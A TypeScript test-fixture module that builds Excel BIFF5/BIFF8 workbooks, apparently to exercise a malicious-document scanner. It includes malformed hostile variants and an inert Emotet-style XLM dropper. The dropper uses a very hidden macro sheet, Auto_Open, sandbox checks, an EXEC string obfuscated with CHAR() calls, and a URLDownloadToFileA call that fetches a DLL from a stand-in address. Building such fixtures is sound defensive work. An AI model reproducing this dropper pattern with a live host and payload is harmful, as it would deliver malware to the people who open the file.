/**
 * BIFF8 and BIFF5 workbooks built in code ([MS-XLS]): BOF, BOUNDSHEET, SUPBOOK/EXTERNSHEET, NAME,
 * SST, cells (LABEL, LABELSST, NUMBER, FORMULA with its Rgce and a cached STRING), EOF, packed into a
 * compound file as the `Workbook` (BIFF8) or `Book` (BIFF5) stream. Plus an inert Emotet-2020-style
 * XLM dropper and hostile variants (records past the end, lying SST counts, broken shared formulas).
 */
import { concatBytes } from '../../src/core/index.js';
import { buildCfb } from './cfb.js';
import { compileFormula, parseCell, type CompileContext } from './xlm-formula.js';

export interface BiffCellSpec {
  /** A1 address, e.g. `B7`. */
  ref: string;
  /** Formula text without `=`; compiled to Ptg tokens. */
  formula?: string;
  /** Raw Rgce bytes instead of `formula` (hostile tokens). */
  rgce?: Uint8Array;
  /** A constant, or the cached result of the formula (a string result is written as STRING). */
  value?: string | number | boolean;
}

export interface BiffSheetSpec {
  name: string;
  type?: 'worksheet' | 'macro';
  state?: 'visible' | 'hidden' | 'very-hidden';
  cells: BiffCellSpec[];
  /** Records appended inside the sheet substream before its EOF. */
  extraRecords?: Uint8Array[];
}

export interface BiffNameSpec {
  /** The name, or for a built-in one its meaning (`Auto_Open` is written as the one character 0x01). */
  name: string;
  isBuiltin?: boolean;
  isHidden?: boolean;
  formula: string;
}

export interface BiffWorkbookSpec {
  version?: 5 | 8;
  sheets: BiffSheetSpec[];
  names?: BiffNameSpec[];
  /** BIFF8: write text cells as LABELSST into a shared string table (default) or as LABEL. */
  isSstUsed?: boolean;
  /** FILEPASS right after the globals BOF (the rest is then not really encrypted: only declared). */
  filepass?: 'xor' | 'rc4' | 'rc4-cryptoapi';
  /** Records appended to the globals substream before its EOF. */
  extraGlobals?: Uint8Array[];
  /**
   * BIFF8 DDE links: a SUPBOOK (`application` U+0003 `topic`) and an EXTERNNAME `item` each, reached
   * from formulas by `ptgNameX(sheets.length + i)` (their XTI follows the sheets').
   */
  ddeLinks?: { application: string; topic: string; item?: string; isOle?: boolean }[];
}

const BUILTIN_CODES: Record<string, number> = { auto_open: 1, auto_close: 2 };

/** One record: type, length, data. */
export function record(type: number, data: Uint8Array | number[] = []): Uint8Array {
  const body = data instanceof Uint8Array ? data : Uint8Array.from(data);
  const out = new Uint8Array(4 + body.length);
  const view = new DataView(out.buffer);
  view.setUint16(0, type, true);
  view.setUint16(2, body.length, true);
  out.set(body, 4);
  return out;
}

class Bytes {
  readonly parts: number[] = [];
  u8(n: number): this {
    this.parts.push(n & 0xff);
    return this;
  }
  u16(n: number): this {
    this.parts.push(n & 0xff, (n >> 8) & 0xff);
    return this;
  }
  u32(n: number): this {
    this.parts.push(n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff);
    return this;
  }
  f64(n: number): this {
    const b = new Uint8Array(8);
    new DataView(b.buffer).setFloat64(0, n, true);
    this.parts.push(...b);
    return this;
  }
  raw(b: Uint8Array | number[]): this {
    this.parts.push(...b);
    return this;
  }
  /** BIFF8 characters after their length: fHighByte flag, then latin-1 or UTF-16LE. */
  chars(s: string): this {
    const wide = [...s].some((c) => c.charCodeAt(0) > 0xff);
    this.u8(wide ? 1 : 0);
    for (const c of s) wide ? this.u16(c.charCodeAt(0)) : this.u8(c.charCodeAt(0));
    return this;
  }
  latin1(s: string): this {
    for (const c of s) this.u8(c.charCodeAt(0));
    return this;
  }
  bytes(): Uint8Array {
    return Uint8Array.from(this.parts);
  }
}

const bof = (version: 5 | 8, dt: number) =>
  record(
    0x0809,
    new Bytes()
      .u16(version === 8 ? 0x0600 : 0x0500)
      .u16(dt)
      .u16(0x0dbb)
      .u16(0x07cc)
      .u32(0)
      .u32(0)
      .bytes(),
  );
const EOF = record(0x000a);

/** Builds the workbook stream (not yet in a compound file). */
export function buildWorkbookStream(spec: BiffWorkbookSpec): Uint8Array {
  const version = spec.version ?? 8;
  const names = spec.names ?? [];
  const ctx: CompileContext = {
    dialect: version,
    sheets: spec.sheets.map((s) => s.name),
    names: names.map((n) => n.name),
  };
  const useSst = version === 8 && spec.isSstUsed !== false;
  const sst: string[] = [];
  const sheetStreams = spec.sheets.map((s) =>
    sheetStream(s, version, ctx, useSst ? sst : undefined),
  );
  const head = (sheetOffsets: number[]) => {
    const parts = [bof(version, 0x0005)];
    if (spec.filepass) parts.push(filepass(spec.filepass));
    parts.push(record(0x0042, new Bytes().u16(version === 8 ? 1200 : 1252).bytes()));
    spec.sheets.forEach((s, i) => parts.push(boundSheet(s, sheetOffsets[i] ?? 0, version)));
    if (version === 8) {
      parts.push(record(0x01ae, new Bytes().u16(spec.sheets.length).u16(0x0401).bytes()));
      const links = spec.ddeLinks ?? [];
      for (const link of links) parts.push(...ddeLinkRecords(link));
      const xti = new Bytes().u16(spec.sheets.length + links.length);
      spec.sheets.forEach((_, i) => xti.u16(0).u16(i).u16(i));
      links.forEach((_, i) =>
        xti
          .u16(1 + i)
          .u16(0xfffe)
          .u16(0xfffe),
      );
      parts.push(record(0x0017, xti.bytes()));
    }
    for (const n of names) parts.push(nameRecord(n, version, ctx));
    if (useSst && sst.length > 0) parts.push(sstRecord(sst));
    parts.push(...(spec.extraGlobals ?? []), EOF);
    return concatBytes(parts);
  };
  const size = head(spec.sheets.map(() => 0)).length;
  const offsets: number[] = [];
  let at = size;
  for (const s of sheetStreams) (offsets.push(at), (at += s.length));
  return concatBytes([head(offsets), ...sheetStreams]);
}

/** Builds an .xls: the workbook stream in a compound file. */
export function buildXls(spec: BiffWorkbookSpec): Uint8Array {
  const path = (spec.version ?? 8) === 8 ? 'Workbook' : 'Book';
  return buildCfb({ streams: [{ path, data: buildWorkbookStream(spec) }] }).bytes;
}

/** SUPBOOK with a DDE-OLE virtPath ([MS-XLS] 2.4.271, 2.5.277) and, given an item, its EXTERNNAME. */
function ddeLinkRecords(link: NonNullable<BiffWorkbookSpec['ddeLinks']>[number]): Uint8Array[] {
  const path = `${link.application}\u0003${link.topic}`;
  const out = [record(0x01ae, new Bytes().u16(0).u16(path.length).chars(path).bytes())];
  if (link.item !== undefined) {
    const flags = link.isOle ? 0x0010 : 0;
    const name = new Bytes().u16(flags).u32(0).u8(link.item.length).chars(link.item);
    out.push(record(0x0023, name.bytes()));
  }
  return out;
}

/** PtgNameX (2.5.198.77), value class: external name 1 of the XTI `ixti`. */
export function ptgNameX(ixti: number, nameIndex = 1): Uint8Array {
  return Uint8Array.from([
    0x59,
    ixti & 0xff,
    ixti >> 8,
    nameIndex & 0xff,
    (nameIndex >> 8) & 0xff,
    0,
    0,
  ]);
}

function filepass(kind: 'xor' | 'rc4' | 'rc4-cryptoapi'): Uint8Array {
  if (kind === 'xor') return record(0x002f, new Bytes().u16(0).u16(0x1234).u16(0x5678).bytes());
  const body = new Bytes()
    .u16(1)
    .u16(kind === 'rc4' ? 1 : 2)
    .u16(kind === 'rc4' ? 1 : 2);
  return record(0x002f, body.raw(new Array<number>(48).fill(0x11)).bytes());
}

function boundSheet(s: BiffSheetSpec, offset: number, version: 5 | 8): Uint8Array {
  const state = { visible: 0, hidden: 1, 'very-hidden': 2 }[s.state ?? 'visible'];
  const b = new Bytes()
    .u32(offset)
    .u8(state)
    .u8(s.type === 'macro' ? 1 : 0)
    .u8(s.name.length);
  return record(0x0085, version === 8 ? b.chars(s.name).bytes() : b.latin1(s.name).bytes());
}

function nameRecord(n: BiffNameSpec, version: 5 | 8, ctx: CompileContext): Uint8Array {
  const code = BUILTIN_CODES[n.name.toLowerCase()];
  const isBuiltin = n.isBuiltin === true && code !== undefined;
  const text = isBuiltin ? String.fromCharCode(code) : n.name;
  const rgce = compileFormula(n.formula, ctx);
  const flags = (n.isHidden ? 0x01 : 0) | (isBuiltin ? 0x20 : 0) | 0x08;
  const b = new Bytes().u16(flags).u8(0).u8(text.length).u16(rgce.length);
  if (version === 8) b.u16(0).u16(0).u32(0).chars(text);
  else b.u16(0).u16(0).u32(0).latin1(text);
  return record(0x0018, b.raw(rgce).bytes());
}

function sstRecord(strings: string[]): Uint8Array {
  const b = new Bytes().u32(strings.length).u32(strings.length);
  for (const s of strings) b.u16(s.length).chars(s);
  return record(0x00fc, b.bytes());
}

function sheetStream(
  s: BiffSheetSpec,
  version: 5 | 8,
  ctx: CompileContext,
  sst: string[] | undefined,
): Uint8Array {
  const parts = [bof(version, s.type === 'macro' ? 0x0040 : 0x0010)];
  for (const cell of s.cells) parts.push(...cellRecords(cell, version, ctx, sst));
  parts.push(...(s.extraRecords ?? []), EOF);
  return concatBytes(parts);
}

function cellRecords(
  cell: BiffCellSpec,
  version: 5 | 8,
  ctx: CompileContext,
  sst: string[] | undefined,
): Uint8Array[] {
  const { row, col } = parseCell(cell.ref);
  const head = () => new Bytes().u16(row).u16(col).u16(0x0f);
  if (cell.formula !== undefined || cell.rgce !== undefined) {
    const rgce = cell.rgce ?? compileFormula(cell.formula!, { ...ctx, dialect: version });
    const b = head();
    const v = cell.value;
    if (typeof v === 'number') b.f64(v);
    else if (typeof v === 'boolean') b.raw([1, 0, v ? 1 : 0, 0, 0, 0, 0xff, 0xff]);
    else if (v === '') b.raw([3, 0, 0, 0, 0, 0, 0xff, 0xff]);
    else if (typeof v === 'string') b.raw([0, 0, 0, 0, 0, 0, 0xff, 0xff]);
    else b.f64(0);
    const out = [record(0x0006, b.u16(0).u32(0).u16(rgce.length).raw(rgce).bytes())];
    if (typeof v === 'string' && v !== '') out.push(stringRecord(v, version));
    return out;
  }
  const v = cell.value;
  if (typeof v === 'number') return [record(0x0203, head().f64(v).bytes())];
  if (typeof v === 'boolean')
    return [
      record(
        0x0205,
        head()
          .u8(v ? 1 : 0)
          .u8(0)
          .bytes(),
      ),
    ];
  if (typeof v !== 'string') return [];
  if (sst) {
    let index = sst.indexOf(v);
    if (index < 0) index = sst.push(v) - 1;
    return [record(0x00fd, head().u32(index).bytes())];
  }
  const b = head().u16(v.length);
  return [record(0x0204, version === 8 ? b.chars(v).bytes() : b.latin1(v).bytes())];
}

function stringRecord(v: string, version: 5 | 8): Uint8Array {
  const b = new Bytes().u16(v.length);
  return record(0x0207, version === 8 ? b.chars(v).bytes() : b.latin1(v).bytes());
}

/** A SHRFMLA record for the range `first:last` holding `formula` (relative refs as PtgRefN). */
export function sharedFormulaRecord(first: string, last: string, rgce: Uint8Array): Uint8Array {
  const a = parseCell(first);
  const b = parseCell(last);
  const body = new Bytes()
    .u16(a.row)
    .u16(b.row)
    .u8(a.col)
    .u8(b.col)
    .u8(0)
    .u8(b.row - a.row + 1);
  return record(0x04bc, body.u16(rgce.length).raw(rgce).bytes());
}

/** The Rgce of a PtgExp pointing to the shared formula anchored at `anchor`. */
export function ptgExp(anchor: string): Uint8Array {
  const { row, col } = parseCell(anchor);
  return new Bytes().u8(0x01).u16(row).u16(col).bytes();
}

/** Characters of `text` as an XLM concatenation of CHAR() calls, the way droppers hide strings. */
export function charChain(text: string): string {
  return [...text].map((c) => `CHAR(${c.charCodeAt(0)})`).join('&');
}

export const EMOTET_URL = 'http://203.0.113.5/wp-content/loader.dll';
export const EMOTET_COMMAND =
  'powershell -nop -w hidden -c "Write-Output emoguard-inert-test; exit"';

/**
 * An inert Emotet-2020-style Excel 4.0 dropper: a very hidden macro sheet, a hidden built-in
 * Auto_Open pointing at it, sandbox checks (GET.WORKSPACE), a FORMULA that writes an
 * `=EXEC("powershell …")` built from CHAR() calls into a blank cell which then runs, and a
 * CALL of urlmon URLDownloadToFileA on a TEST-NET address. Nothing in it can run anywhere.
 */
export function emotetXlmSpec(version: 5 | 8 = 8): BiffWorkbookSpec {
  const exec = `=EXEC("${EMOTET_COMMAND.replace(/"/g, '""')}")`;
  // Written in pieces so that no single PtgStr exceeds 255 characters.
  const third = Math.ceil(exec.length / 3);
  const builder = [0, 1, 2].map((i) => charChain(exec.slice(i * third, (i + 1) * third)));
  return {
    version,
    sheets: [
      { name: 'Sheet1', cells: [{ ref: 'A1', value: 'Enable content to view the invoice' }] },
      {
        name: 'Macro1',
        type: 'macro',
        state: 'very-hidden',
        cells: [
          { ref: 'A1', formula: 'IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)', value: false },
          { ref: 'A2', formula: 'IF(ISNUMBER(SEARCH("Windows",GET.WORKSPACE(1))),,CLOSE(TRUE))' },
          { ref: 'A3', formula: `FORMULA(B1&B2&B3,A5)` },
          {
            ref: 'A4',
            formula: `CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"${EMOTET_URL.slice(0, 20)}"&"${EMOTET_URL.slice(20)}","C:\\Users\\Public\\loader.dll",0,0)`,
          },
          { ref: 'A6', formula: 'HALT()' },
          { ref: 'B1', formula: builder[0]! },
          { ref: 'B2', formula: builder[1]! },
          { ref: 'B3', formula: builder[2]! },
        ],
      },
    ],
    names: [{ name: 'Auto_Open', isBuiltin: true, isHidden: true, formula: 'Macro1!$A$1' }],
  };
}

/** The Emotet-style dropper as an .xls file. */
export function buildEmotetXls(version: 5 | 8 = 8): Uint8Array {
  return buildXls(emotetXlmSpec(version));
}
